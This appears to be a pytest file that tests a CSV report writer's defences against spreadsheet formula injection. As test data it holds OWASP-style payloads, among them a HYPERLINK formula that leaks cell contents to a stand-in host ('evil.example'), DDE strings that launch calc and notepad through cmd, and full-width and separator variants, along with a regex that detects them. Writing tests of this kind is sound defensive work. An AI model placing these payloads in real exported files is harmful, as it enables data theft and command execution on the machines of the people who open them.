"""CSV formula injection (OWASP): the payloads from OWASP's CSV Injection page and their
variants (a leading space or tab, full-width signs, a ";" separator inside a field) in every
text a user or a vendor controls. No cell a spreadsheet reads starts a formula, and every field
is quoted so a ";"-separated reader cannot split one."""

from __future__ import annotations

import csv
import io
import re

import pytest

from smlog.readmodel import DeliveryRow
from smlog.services.reports.render.csv_writer import guard
from smlog.v1.reports_pb2 import ReportFormat

from .conftest import M, S, collect, context, four_mode_detail, row

OWASP = [
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click for further information")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    " =1+2",
    "  \u00a0+1",
    "\uff1d1+2",  # full-width =
    "\uff0bcmd|' /C calc'!A0",  # full-width +
    "\uff0d2+3",  # full-width -
    "\uff20SUM(1+9)",  # full-width @
]
SPLITTERS = ["Bob;=cmd|' /C calc'!A0", "Bob,=cmd|' /C calc'!A0", "Bob;@SUM(1)"]
FORMULA = re.compile(r"^\s*[=+\-@\uff1d\uff0b\uff0d\uff20]")
QUOTED_LINE = re.compile(r'^"(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*$')


def is_formula(cell: str) -> bool:
    return bool(FORMULA.match(cell)) or (cell[:1] != "" and cell[:1] in "\t\r\n")


@pytest.mark.parametrize("payload", OWASP)
def test_guard_defuses_every_owasp_payload(payload: str) -> None:
    guarded = guard(payload)
    assert guarded == "'" + payload
    assert guarded[1:] == payload  # nothing else of the text is changed


@pytest.mark.parametrize("text", ["Ann Lee", "2026-03-08 01:30:05", "Sent", "", "a=b", "(***) 1"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert guard(text) == text


async def test_no_cell_of_the_report_starts_a_formula() -> None:
    payloads = OWASP + SPLITTERS
    rows: list[DeliveryRow] = [
        row(
            i + 1,
            p,
            M.DELIVERY_MODE_EMAIL,
            S.DEVICE_STATUS_FAILED,
            None,
            student=p,
            device=p,
            detail=p,
        )
        for i, p in enumerate(payloads)
    ]
    detail = four_mode_detail()
    header = detail.message_details
    header.subject = OWASP[0]
    header.sender.display_name = OWASP[2]
    detail.general_criteria.district.name = " =1+2"
    data, _ = await collect(ReportFormat.REPORT_FORMAT_CSV, context(rows, detail=detail), rows)
    text = data.decode("utf-8-sig")
    # Every physical line is all-quoted fields (a bare newline in a payload is flattened by the
    # row cells, so each record stays on one line).
    lines = text.split("\r\n")[:-1]
    assert all(QUOTED_LINE.match(line) for line in lines if line), [
        line for line in lines if line and not QUOTED_LINE.match(line)
    ]
    records = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for record in records for cell in record]
    assert [c for c in cells if is_formula(c)] == []
    # A reader whose list separator is ";" keeps each quoted field whole: "Bob;=cmd|..."
    # stays one cell instead of opening a second one with "=cmd".
    for cell in cells:
        quoted = '"' + cell.replace('"', '""') + '"'
        (alone,) = csv.reader([quoted], delimiter=";")
        assert alone == [cell]
    table = records[records.index([]) + 2 :]
    assert len(table) == len(payloads)
    for record, payload in zip(table, payloads, strict=True):
        want = guard(payload.replace("\r", " ").replace("\n", " ").replace("\t", " "))
        assert record[0] in (want, guard(payload)), (record[0], payload)
    header_cells = {r[0]: r[1] for r in records if len(r) > 1}
    assert header_cells["Subject"] == "'" + OWASP[0]
